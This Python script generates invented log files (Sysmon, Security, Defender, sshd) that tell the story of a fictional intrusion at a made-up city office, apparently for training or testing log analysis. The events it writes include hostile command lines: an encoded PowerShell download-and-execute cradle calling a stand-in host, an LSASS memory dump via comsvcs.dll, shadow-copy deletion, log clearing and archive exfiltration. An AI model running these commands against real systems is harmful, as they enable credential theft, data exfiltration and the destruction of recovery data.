"""Write samples/logs: one invented night at an invented city, in the shapes logs really come in.

Run from the repository root: ``python samples/make_logs.py``. The output is committed; running
this again gives the same bytes. Every name and address is made up (RFC 5737, RFC 1918,
example.jp). An EVTX file cannot be written without Windows, so there is none.

The story, Japan time: 17:42 on 5 November 2026 a tax clerk opens a mail attachment; the macro
fetches a program that calls home every few minutes. At 22:05 somebody at the other end switches
off protection and dumps LSASS, at 23:31 moves to the file server with an administrator's password,
packs the residents' share, sends it away, and at 02:55 tries to delete the shadow copies. Around
it the ordinary evening: software distribution, a helpdesk job, a USB stick, a night batch.
"""

import base64
import gzip
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

HERE = Path(__file__).parent / "logs"
DOMAIN = "minatono.example.jp"
START = datetime(2026, 11, 5, 8, 30, tzinfo=UTC)  # 17:30 in Japan
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
IMPLANT = "C:\\Users\\t-kagawa\\AppData\\Roaming\\WinUpd\\upd.exe"
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSTEM = ("System", "Service Control Manager")
DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
PACKING_DATE = (2026, 11, 6, 8, 0, 0)


def at(clock, seconds=0):
    """Return the instant a Japan-time clock shows that night; times before noon are the 6th."""
    hour, minute = map(int, clock.split(":"))
    day = datetime(2026, 11, 6 if hour < 12 else 5, tzinfo=UTC)
    return day + timedelta(hours=hour - 9, minutes=minute, seconds=seconds)


def event(moment, host, log, number, **data):
    """Return one event, free of any log format."""
    return {"at": moment, "host": f"{host}.{DOMAIN}", "log": log, "id": number, "data": data}


def started(moment, host, user, image, command, parent, parent_command=""):
    """Return a process start as Sysmon writes it."""
    data = {
        "UtcTime": moment.strftime("%Y-%m-%d %H:%M:%S.000"),
        "ProcessId": 2000 + (int(moment.timestamp()) % 6000),
        "Image": image,
        "CommandLine": command,
        "User": f"MINATONO\\{user}",
        "IntegrityLevel": "Medium",
        "ParentImage": parent,
        "ParentCommandLine": parent_command or parent,
    }
    return event(moment, host, SYSMON, 1, **data)


def connected(moment, host, user, image, source, target, port):
    """Return an outgoing connection as Sysmon writes it."""
    data = {"Image": image, "User": f"MINATONO\\{user}", "Protocol": "tcp", "Initiated": "true"}
    data |= {"SourceIp": source, "SourcePort": 50000 + moment.minute * 60 + moment.second}
    return event(moment, host, SYSMON, 3, **data, DestinationIp=target, DestinationPort=port)


def encoded(script):
    """Return a PowerShell -EncodedCommand argument."""
    return base64.b64encode(script.encode("utf-16le")).decode()


def clerk_pc():
    """Yield what happened on the tax clerk's PC, and its ordinary work."""
    pc, user = "PC-ZEI-014", "t-kagawa"
    explorer = "C:\\Windows\\explorer.exe"
    yield started(at("17:31"), pc, user, OFFICE + "OUTLOOK.EXE", "OUTLOOK.EXE", explorer)
    attachment = "C:\\Users\\t-kagawa\\AppData\\Local\\Temp\\償却資産申告の件.xlsm"
    opened = f'EXCEL.EXE "{attachment}"'
    yield started(at("17:42"), pc, user, OFFICE + "EXCEL.EXE", opened, OFFICE + "OUTLOOK.EXE")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.txt')"
    fetch = f"powershell.exe -nop -w hidden -enc {encoded(script)}"
    yield started(at("17:43", 10), pc, user, POWERSHELL, fetch, OFFICE + "EXCEL.EXE", opened)
    yield connected(at("17:43", 15), pc, user, POWERSHELL, "192.168.20.14", "198.51.100.23", 80)
    yield event(at("17:44", 2), pc, SYSMON, 11, Image=POWERSHELL, TargetFilename=IMPLANT)
    task = f"schtasks.exe /Create /SC ONLOGON /TN WinUpd /TR {IMPLANT} /F"
    yield started(at("17:44", 30), pc, user, SYSTEM32 + "schtasks.exe", task, POWERSHELL)
    yield started(at("17:45"), pc, user, IMPLANT, IMPLANT, POWERSHELL)
    for call in range(60):
        moment = at("17:46") + timedelta(minutes=7 * call, seconds=call * 13 % 50)
        yield connected(moment, pc, user, IMPLANT, "192.168.20.14", "203.0.113.77", 4444)
    for minute, command in ((3, "whoami /all"), (4, "net group /domain"), (6, "ipconfig /all")):
        tool = SYSTEM32 + command.split()[0] + ".exe"
        yield started(at("21:50") + timedelta(minutes=minute), pc, user, tool, command, IMPLANT)
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\PerfLogs\\s.bin full"
    yield started(at("22:10"), pc, user, SYSTEM32 + "rundll32.exe", dump, IMPLANT)
    yield event(
        at("22:09", 40), pc, SYSMON, 10, SourceImage=IMPLANT, GrantedAccess="0x1410",
        TargetImage=SYSTEM32 + "lsass.exe", SourceUser=f"MINATONO\\{user}",
    )


def other_pcs():
    """Yield the ordinary evening of two more PCs."""
    explorer = "C:\\Windows\\explorer.exe"
    work = (
        (OFFICE + "WINWORD.EXE", 'WINWORD.EXE /n "広報みなとの12月号.docx"'),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
        (SYSTEM32 + "notepad.exe", "notepad.exe 引継ぎ.txt"),
        ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\k-mori\\写真.7z C:\\写真"),
    )
    for number in range(160):
        pc, user = (("PC-KOHO-003", "k-mori"), ("PC-JUU-021", "s-ueda"))[number % 2]
        image, command = work[number % len(work)]
        moment = START + timedelta(minutes=number * 3, seconds=number * 7 % 60)
        yield started(moment, pc, user, image, command, explorer)
        yield connected(
            moment + timedelta(seconds=3), pc, user, image, f"192.168.20.{20 + number % 2}",
            "192.168.1.8", 8080,
        )


def file_server():
    """Yield what the file server logged: night work, distribution, and the intruder."""
    host, admin = "SV-FILE01", "adm-ono"
    for number in range(120):
        moment = START + timedelta(minutes=number * 5)
        yield event(
            moment, host, SECURITY, 5145, SubjectUserName="k-mori", IpAddress="192.168.20.20",
            ShareName="\\\\*\\kouhou", RelativeTargetName=f"2026\\原稿{number:03}.docx",
            AccessMask="0x1",
        )
    backup = "wbadmin.exe start backup -backupTarget:\\\\sv-bk01\\file01 -include:D: -quiet"
    yield process_audit(at("01:00"), host, "svc-backup", SYSTEM32 + "wbadmin.exe", backup)
    look = "vssadmin.exe list shadows"
    yield process_audit(at("01:05"), host, "svc-backup", SYSTEM32 + "vssadmin.exe", look)
    yield event(
        at("23:31"), host, SECURITY, 4624, TargetUserName=admin, TargetDomainName="MINATONO",
        LogonType="3", IpAddress="192.168.20.14", WorkstationName="PC-ZEI-014",
    )
    for second, name in ((8, "Users\\Public\\upd.exe"), (15, "PSEXESVC.exe")):
        yield event(
            at("23:31", second), host, SECURITY, 5145, SubjectUserName=admin,
            SubjectDomainName="MINATONO", IpAddress="192.168.20.14", AccessMask="0x12019f",
            ShareName="\\\\*\\C$" if "Users" in name else "\\\\*\\ADMIN$", RelativeTargetName=name,
        )
    yield event(
        at("23:31", 30), host, SYSTEM, 7045, ServiceName="WinUpdSvc", StartType="auto start",
        ImagePath="C:\\Users\\Public\\upd.exe", ServiceType="user mode service",
        AccountName="LocalSystem",
    )
    packer = "C:\\Users\\Public\\7z.exe"
    pack = "7z.exe a -pKmt77 -mhe=on C:\\Users\\Public\\j.7z \\\\SV-FILE01\\juumin\\*"
    yield process_audit(at("00:12"), host, admin, packer, pack)
    send = "svhost.exe copy C:\\Users\\Public\\j.7z box:in --transfers 8 --config c.conf"
    yield process_audit(at("00:40"), host, admin, "C:\\Users\\Public\\svhost.exe", send)
    for second in (0, 20, 45):
        wipe = "vssadmin.exe Delete Shadows /All /Quiet"
        yield process_audit(at("02:55", second), host, admin, SYSTEM32 + "vssadmin.exe", wipe)
    clear = "wevtutil.exe cl Security"
    yield process_audit(at("02:57"), host, admin, SYSTEM32 + "wevtutil.exe", clear)
    cleared = ("Security", "Microsoft-Windows-Eventlog")
    yield event(at("02:57", 1), host, cleared, 1102, SubjectUserName=admin)


def process_audit(moment, host, user, image, command):
    """Return a process start as the Security log writes it, without Sysmon."""
    return event(
        moment, host, SECURITY, 4688, SubjectUserName=user, SubjectDomainName="MINATONO",
        NewProcessName=image, CommandLine=command, ParentProcessName=SYSTEM32 + "cmd.exe",
    )


def domain():
    """Yield Security events that Winlogbeat collected from all over the domain."""
    people = ("t-kagawa", "k-mori", "s-ueda", "adm-ono", "svc-asset")
    for number in range(150):
        moment = START + timedelta(minutes=number * 4, seconds=number % 40)
        yield event(
            moment, "SV-AD01", SECURITY, 4624, TargetUserName=people[number % 5],
            TargetDomainName="MINATONO", LogonType="3", IpAddress=f"192.168.20.{14 + number % 9}",
        )
    yield event(
        at("18:05"), "PC-KOHO-003", SECURITY, 4732, TargetUserName="Administrators",
        TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1004-2005-3006-1144",
        SubjectUserName="helpdesk2", SubjectDomainName="MINATONO",
        SubjectUserSid="S-1-5-21-1004-2005-3006-1020",
    )
    yield event(
        at("18:20"), "PC-KOHO-003", SECURITY, 6416, SubjectUserName="PC-KOHO-003$",
        DeviceId="USBSTOR\\Disk&Ven_Example&Prod_Kouhou&Rev_1.00\\00A1B2C3&0",
        DeviceDescription="Example Kouhou USB Device", ClassName="DiskDrive",
    )
    yield event(
        at("19:10"), "PC-JUU-021", SECURITY, 4732, TargetUserName="Remote Desktop Users",
        TargetSid="S-1-5-32-555", MemberSid="S-1-5-21-1004-2005-3006-1150",
        SubjectUserName="helpdesk2", SubjectUserSid="S-1-5-21-1004-2005-3006-1020",
    )


def protection():
    """Yield Defender events, exported from Elastic."""
    for number, pc in enumerate(("PC-ZEI-014", "PC-KOHO-003", "PC-JUU-021")):
        name = "Microsoft Defender Antivirus"
        for hour in range(6):
            moment = at("18:00", number * 11) + timedelta(hours=hour)
            yield event(moment, pc, DEFENDER, 2000, **{"Product Name": name})
    value = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\PerfLogs = 0x0"
    yield event(
        at("22:05"), "PC-ZEI-014", DEFENDER, 5007,
        **{"Product Name": "Microsoft Defender Antivirus", "Old Value": "", "New Value": value},
    )


def distribution():
    """Yield the asset server's nightly distribution: looks like lateral movement, is not."""
    for number, pc in enumerate(("PC-ZEI-014", "PC-KOHO-003", "PC-JUU-021")):
        for step, name in enumerate(("AgentSetup.msi", "AgentPatch.exe")):
            yield event(
                at("19:00", number * 20 + step * 5), pc, SECURITY, 5145,
                SubjectUserName="svc-asset", SubjectDomainName="MINATONO",
                IpAddress="192.168.10.30", ShareName="\\\\*\\C$", AccessMask="0x12019f",
                RelativeTargetName=f"ProgramData\\AssetAgent\\{name}",
            )


def web_server():
    """Yield the web server's sshd, as Filebeat ships it."""
    lines = [
        (START + timedelta(minutes=30 * number), "Accepted publickey for hoshu from 192.168.10.40"
         " port 50100 ssh2: ED25519 SHA256:example") for number in range(8)
    ]
    lines += [(at("01:29", 10 * number), "Failed password for root from 192.168.20.14 port 51000"
               " ssh2") for number in range(5)]
    lines.append((at("01:30"), "Accepted password for root from 192.168.20.14 port 51002 ssh2"))
    for moment, text in sorted(lines):
        yield {
            "@timestamp": iso(moment), "message": text,
            "host": {"hostname": "sv-web01", "os": {"type": "linux"}},
            "process": {"name": "sshd", "pid": 812},
            "event": {"module": "system", "dataset": "system.auth", "kind": "event"},
        }


def iso(moment):
    """Return ISO 8601 in UTC with milliseconds."""
    return moment.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def nested(number, item):
    """Return the shape evtx_dump writes."""
    channel, provider = item["log"]
    return {"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": provider}}, "EventID": item["id"],
            "TimeCreated": {"#attributes": {"SystemTime": iso(item["at"])}},
            "EventRecordID": 30000 + number, "Channel": channel, "Computer": item["host"],
        },
        "EventData": item["data"],
    }}


def flat(_number, item):
    """Return the shape nxlog writes; its times are local, with the offset."""
    channel, provider = item["log"]
    local = (item["at"] + timedelta(hours=9)).strftime("%Y-%m-%dT%H:%M:%S.000+09:00")
    head = {"EventTime": local, "Hostname": item["host"], "EventID": item["id"]}
    return {**head, "SourceName": provider, "Channel": channel, **item["data"]}


def winlogbeat(number, item):
    """Return the shape Winlogbeat ships."""
    channel, provider = item["log"]
    return {
        "@timestamp": iso(item["at"]), "host": {"name": item["host"].split(".")[0].lower()},
        "event": {"code": str(item["id"]), "kind": "event", "provider": provider},
        "winlog": {
            "channel": channel, "provider_name": provider, "event_id": str(item["id"]),
            "computer_name": item["host"], "record_id": 70000 + number, "event_data": item["data"],
        },
    }


def exported(number, item):
    """Return the shape of a search result exported from Elastic."""
    index = ".ds-winlogbeat-2026.11.05-000001"
    return {"_index": index, "_id": f"k{number:06}", "_source": winlogbeat(number, item)}


def lines(events, shape=None):
    """Return NDJSON, in order of time."""
    items = list(events)
    if shape:
        ordered = sorted(items, key=lambda item: item["at"])
        items = [shape(number, item) for number, item in enumerate(ordered, 1)]
    return "".join(json.dumps(item, ensure_ascii=False) + "\n" for item in items).encode()


def packed(name, data):
    """Return a zip with one member, with a fixed date."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, PACKING_DATE), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def main():
    """Write every file."""
    HERE.mkdir(exist_ok=True)
    cut = lines(distribution(), flat)[:-60]  # the transfer broke off inside the last record
    files = {
        "pc-sysmon.evtx_dump.ndjson": lines([*clerk_pc(), *other_pcs()], nested),
        "sv-file01.nxlog.json.gz": gzip.compress(lines(file_server(), flat), mtime=0),
        "domain-security.winlogbeat.ndjson": lines(domain(), winlogbeat),
        "defender.elastic-export.ndjson": lines(protection(), exported),
        "pc-shares.zip": packed("pc-shares.nxlog.json", cut),
        "sv-web01.sshd.ndjson": lines(web_server()),
    }
    for name, data in files.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
